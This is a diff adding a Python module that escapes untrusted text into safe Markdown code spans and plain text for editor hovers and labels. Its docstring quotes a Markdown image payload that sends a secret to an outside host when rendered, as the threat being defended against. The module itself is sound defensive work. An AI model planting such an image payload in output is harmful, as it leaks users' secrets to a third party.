@@ -1,0 +1,152 @@
+"""The one place that turns text fxls did not write into safe Markdown and plain text.
+
+Everything the worker returns (module and class names, ``extra_repr`` text, node targets,
+argument values, dtypes, error messages, input names) comes from running the user's code, so
+a model can choose it. In a hover it must never become a link, an image, raw HTML or layout:
+an image ``![x](https://host/?d=<secret>)`` is fetched as soon as the hover renders.
+
+Rules (CommonMark with GFM tables, which is what VS Code, Neovim and most clients render):
+
+- :func:`code` puts the text in a code span whose backtick fence is one longer than the
+  longest backtick run inside, padded with a space when the text starts or ends with a
+  backtick or a space. Inside a code span nothing is markup: no links, images, HTML, entities
+  or emphasis. Line breaks become spaces (a blank line would end the span's paragraph);
+  ``|`` is escaped as ``\\|`` where the span sits in a table cell (GFM splits cells before it
+  parses code spans, and reads ``\\|`` as a literal pipe there).
+- :func:`word` leaves a plain identifier (ASCII letters and digits, single underscores
+  between them) as it is, since it cannot form any Markdown construct; anything else becomes a
+  code span.
+- :func:`plain` is for surfaces that are not Markdown (code lens titles, inlay hint labels,
+  diagnostic messages): control characters become spaces.
+- Every value is clipped to :data:`MAX_VALUE` characters with an ellipsis, before it is
+  escaped, and :func:`join_blocks` keeps a whole hover within :data:`MAX_MARKDOWN` characters
+  by dropping whole rows or paragraphs, never by cutting through a code span.
+
+All scanners here are single passes over the text: no regular expression, so no input can
+make rendering slower than linear.
+"""
+
+from __future__ import annotations
+
+from collections.abc import Sequence
+
+MAX_VALUE = 2_000
+"""Longest text taken from one worker string (characters, before escaping)."""
+MAX_CELL = 300
+"""Longest text in a table cell of a hover."""
+MAX_MARKDOWN = 20_000
+"""Longest hover (characters of Markdown)."""
+MAX_LABEL = 200
+"""Longest code lens title or inlay hint label."""
+MAX_ROWS = 50
+"""Most rows of one hover table."""
+MAX_LISTED_VALUES = 16
+"""Most values of one flattened tuple shown."""
+ELLIPSIS = "…"
+
+_CONTROL = {i: " " for i in (*range(0x00, 0x20), 0x7F, 0x85, 0x2028, 0x2029)}
+_CONTROL_KEEP_NEWLINES = {k: v for k, v in _CONTROL.items() if k not in (0x09, 0x0A)}
+
+
+def clip(text: str, limit: int = MAX_VALUE) -> str:
+    """``text`` cut to at most ``limit`` characters, the last one an ellipsis when cut."""
+    if len(text) <= limit:
+        return text
+    return text[: max(limit - 1, 0)] + ELLIPSIS
+
+
+def one_line(text: str) -> str:
+    """Control characters and line/paragraph separators -> spaces."""
+    return text.translate(_CONTROL)
+
+
+def plain(text: str, limit: int = MAX_VALUE, *, newlines: bool = False) -> str:
+    """Text for a plain-text surface: clipped, control characters as spaces (line breaks
+    kept when ``newlines``; ``\\r`` never)."""
+    text = clip(text.replace("\r\n", "\n"), limit)
+    return text.translate(_CONTROL_KEEP_NEWLINES if newlines else _CONTROL)
+
+
+def longest_run(text: str, char: str = "`") -> int:
+    """Length of the longest run of ``char`` in ``text`` (one pass)."""
+    best = run = 0
+    for ch in text:
+        if ch == char:
+            run += 1
+            if run > best:
+                best = run
+        else:
+            run = 0
+    return best
+
+
+def code(text: str, limit: int = MAX_VALUE, *, cell: bool = False) -> str:
+    """``text`` as an inline code span (empty text -> empty string).
+
+    ``cell``: the span is inside a GFM table cell, so ``|`` is escaped.
+    """
+    body = one_line(clip(text, limit))
+    if not body:
+        return ""
+    if cell:
+        body = body.replace("|", "\\|")
+    fence = "`" * (longest_run(body) + 1)
+    pad = (
+        body[0] == "`"
+        or body[-1] == "`"
+        or (body[0] == " " and body[-1] == " " and body.strip(" ") != "")
+    )
+    if pad:
+        body = f" {body} "
+    return f"{fence}{body}{fence}"
+
+
+def is_word(text: str) -> bool:
+    """ASCII letters and digits, with single underscores only between them."""
+    if not text or not text.isascii():
+        return False
+    previous = "_"
+    for ch in text:
+        if ch == "_":
+            if previous == "_":
+                return False
+        elif not ch.isalnum():
+            return False
+        previous = ch
+    return previous != "_"
+
+
+def word(text: str, limit: int = MAX_VALUE, *, cell: bool = False) -> str:
+    """A plain identifier as it is (``conv1``, ``call_module``, ``float32``), anything else
+    as a code span."""
+    if len(text) <= limit and is_word(text):
+        return text
+    return code(text, limit, cell=cell)
+
+
+def cell(text: str, limit: int = MAX_CELL) -> str:
+    """Text from the worker inside a table cell."""
+    return word(text, limit, cell=True)
+
+
+def join_blocks(
+    blocks: Sequence[str],
+    sep: str,
+    limit: int,
+    more: str = "*… {n} more*",
+    *,
+    max_count: int | None = None,
+) -> str:
+    """``sep.join(blocks)`` with as many whole blocks as fit in ``limit`` characters (and at
+    most ``max_count`` blocks); the rest is replaced by ``more`` (``{n}``: how many were left
+    out). Blocks are never cut, so a code span is never left open."""
+    out: list[str] = []
+    size = 0
+    for index, block in enumerate(blocks):
+        extra = len(block) + (len(sep) if out else 0)
+        if size + extra > limit or (max_count is not None and index >= max_count):
+            out.append(more.format(n=len(blocks) - index))
+            break
+        out.append(block)
+        size += extra
+    return sep.join(out)
